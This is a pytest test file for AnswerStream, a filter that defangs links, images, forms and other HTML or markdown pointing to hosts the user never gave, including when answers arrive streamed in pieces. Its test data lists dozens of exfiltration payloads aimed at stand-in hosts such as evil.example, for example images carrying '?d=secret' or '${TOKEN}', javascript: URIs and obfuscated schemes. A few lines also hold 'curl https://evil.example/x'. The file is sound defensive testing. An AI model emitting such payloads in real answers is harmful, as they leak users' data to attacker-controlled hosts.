"""What an answer may carry."""

import pytest

from openclaw.policy.dataflow.answers import AnswerStream

KNOWN = {"https://docs.example/guide", "good.example"}
ACTIVE = (
    "![x](https://evil.example/p.png?d=secret)",
    "![x](<https://evil.example/p.png>)",
    '![x](https://evil.example/p.png "title")',
    "![x](//evil.example/p.png)",
    "![x](https&#58;//evil.example/p.png)",
    "![a [b] c](https://evil.example/p.png)",
    "![x][1]\n\n[1]: https://evil.example/p.png",
    "![1]\n\n[1]: <https://evil.example/p.png> 'title'",
    "[![x](https://evil.example/p.png)](https://docs.example/guide)",
    '<img src="https://evil.example/p.png">',
    "<img src=https://evil.example/p.png",
    "<IMG\nSRC='https://evil.example/p.png' />",
    '<img srcset="https://evil.example/p.png 2x">',
    '<picture><source srcset="//evil.example/p"></picture>',
    '<form action="https://evil.example/f"><input name=q></form>',
    '<button formaction="https://evil.example/f">ok</button>',
    '<div style="background:url(https://evil.example/p)">x</div>',
    '<iframe src="https://evil.example"></iframe>',
    '<svg><image href="https://evil.example/p"/></svg>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<a href="https://evil.example">docs</a>',
    '<a href="javascript:fetch(1)">x</a>',
    '<link rel="stylesheet" href="https://evil.example/s.css">',
    "[docs](https://evil.example)",
    "[docs](https://docs.example@evil.example/guide)",
    "[docs](https://good.example/?d=secret)",
    "<https://evil.example/x>",
    "see https://evil.example/x now",
    "see www.evil.example/x",
    "[docs](javascript:alert(1))",
    "![a](https://e.test/x.png)",
    "![a](//e.test/x.png)",
    "![a][r]\n\n[r]: http://e.test/x",
    "[![b](https://e.test/b.svg)](https://e.test)",
    '<img src="http\u017f://e.test/x">',
    "![a](w\u017f://e.test/x)",
    "<a href='http\u017f://e.test/?data={x}'>",
    "<img src=//e.test/x>",
    "[a](https://e.test/?data={x})",
    '<a href="https://e.test/?secret=1">',
    "<https://e.test/?x=${TOKEN}>",
    '<a href="j&#97;vascript:x">',
    "[a](data:text/html,x)",
    "![a [b\\] c]](https://e.test/x)",
    "![a\\](b)](https://e.test/x)",
    "![a [b] \\[c](HTTPS://e.test/x)",
    "![a](https://e.test/1)![b](https://e.test/2)",
    "![a](<http://e.test/x>) [b](http://e.test)",
    "![a](\\\\e.test\\x)",
    "![a][]\n[A]: ftp://e.test/x\n[b]: ftp://e.test/y",
)


@pytest.mark.parametrize("answer", ACTIVE)
def test_an_address_that_the_person_did_not_give_is_made_plain(answer: str) -> None:
    text = AnswerStream(KNOWN).whole(answer)
    assert text != answer
    assert AnswerStream(KNOWN).whole(text) == text


@pytest.mark.parametrize("answer", ACTIVE[:13])
def test_no_image_from_an_unknown_address_stays_active(answer: str) -> None:
    text = AnswerStream(KNOWN).whole(answer)
    assert "](http" not in text.replace("](https://docs.example/guide)", "")
    assert "<img" not in text.lower()


@pytest.mark.parametrize(
    "answer",
    [
        "Read [the guide](https://docs.example/guide).",
        "![x](https://docs.example/guide)",
        "See https://good.example/page/2 for more.",
        "No address here, just 2 < 3 and a > b.",
        "Use <b>bold</b> and `https://evil.example/x` in code.",
        "```\n![x](https://evil.example/p.png)\n```\n",
        "1. Run this:\n\n   ```sh\n   curl https://evil.example/x\n\n   a = b[0](<x>)\n   ```\n\n2. Done.\n",
        "> ~~~\n> <img src=https://evil.example/x>\n>\n> https://evil.example/x\n> ~~~\n",
        "- a\n  - b\n\n    ```\n    https://evil.example/x\n    ```\n",
        "[section](#usage) and [mail](mailto:bob@good.example)",
        "![dot](data:image/png;base64,iVBORw0KGgo=)",
    ],
)
def test_everything_else_is_left_alone(answer: str) -> None:
    assert AnswerStream(KNOWN).whole(answer) == answer


def test_the_address_stays_readable() -> None:
    text = AnswerStream(()).whole(
        "[the shop](https://evil.example/shop) ![](https://evil.example/p)"
    )
    assert text == "the shop (`https://evil.example/shop`) image (`https://evil.example/p`)"


def test_an_image_on_a_given_host_still_needs_the_exact_address() -> None:
    text = AnswerStream(KNOWN).whole("![x](https://good.example/p.png)")
    assert text == "x (`https://good.example/p.png`)"


@pytest.mark.parametrize(
    "answer",
    [
        "```\ncode\n````\n![x](https://evil.example/p)\n```\n",
        "``` a ``` ![x](https://evil.example/p)\n```\n",
        "a ` b\n\n![x](https://evil.example/p)\n\nc `",
        "a ` b\n- ![x](https://evil.example/p) ` c",
        "\\` ![x](https://evil.example/p) `",
        '<div>\n```\n<img src="https://evil.example/p">\n```\n',
    ],
)
def test_what_only_looks_like_code_is_read(answer: str) -> None:
    text = AnswerStream(KNOWN).whole(answer)
    assert text != answer
    assert "](https://evil" not in text


def test_no_block_is_left_in_which_markdown_is_not_read() -> None:
    answer = '<pre>\n\n```\n<img src="https://evil.example/p">\n```\n'
    assert AnswerStream(()).whole(answer) == f"&lt;{answer[1:]}"


PIECES = (
    *ACTIVE,
    "Plain words, 2 < 3, [x] and\n> [1]: https://evil.example/a\nfoo [1]: https://evil.example/b",
    "Run this:\n```bash\ncurl https://evil.example/x\n```\nthen see\n[the\nguide](https://a.example)",
    "- one `https://a.example`\n- two https://b.example\n\n~~~\n![x](https://c.example)\n~~~\n",
    "unclosed\n```\n![x](https://c.example)\n",
)


@pytest.mark.parametrize("answer", PIECES)
@pytest.mark.parametrize("size", [1, 2, 3, 7])
def test_a_streamed_answer_is_the_same_in_any_pieces(answer: str, size: int) -> None:
    stream = AnswerStream(KNOWN)
    given = "".join(stream.feed(answer[at : at + size]) for at in range(0, len(answer), size))
    assert given + stream.finish() == AnswerStream(KNOWN).whole(answer)


def test_plain_words_are_not_held_back() -> None:
    stream = AnswerStream(())
    assert stream.feed("The answer is forty-two, as ever") == "The answer is forty-two, as "
    assert stream.feed(" before.\nSee [") == "ever before.\nSee "
    assert stream.feed("x](https://evil.example) now.\nMore ") == (
        "x (`https://evil.example`) now.\nMore "
    )


def test_links_stay_if_nothing_from_outside_was_read_but_images_do_not() -> None:
    answer = (
        "[docs](https://a.example/x) https://b.example [x](javascript:y) ![x](https://c.example)"
    )
    assert AnswerStream((), links=False).whole(answer) == (
        "[docs](https://a.example/x) https://b.example x (`javascript:y`) x (`https://c.example`)"
    )


@pytest.mark.parametrize(
    ("answer", "closed"),
    [
        ("```\n![x](https://evil.test/?d=1)", "\n```"),
        ("```py\nprint()\n", "```"),
        ("```", "\n```"),
        ("> - ~~~~\n>   x", "\n>   ~~~~"),
        ("```\nx\n```", ""),
        ("```\nx\n```\n", ""),
        ("> ```\n> x\n\nafter", ""),
    ],
)
@pytest.mark.parametrize("size", [1, 3, 100])
def test_code_without_an_end_gets_one(answer: str, closed: str, size: int) -> None:
    stream = AnswerStream([])
    pieces = [stream.feed(answer[at : at + size]) for at in range(0, len(answer), size)]
    assert "".join(pieces) + stream.finish() == answer + closed
    assert stream.whole("and then") == "and then"
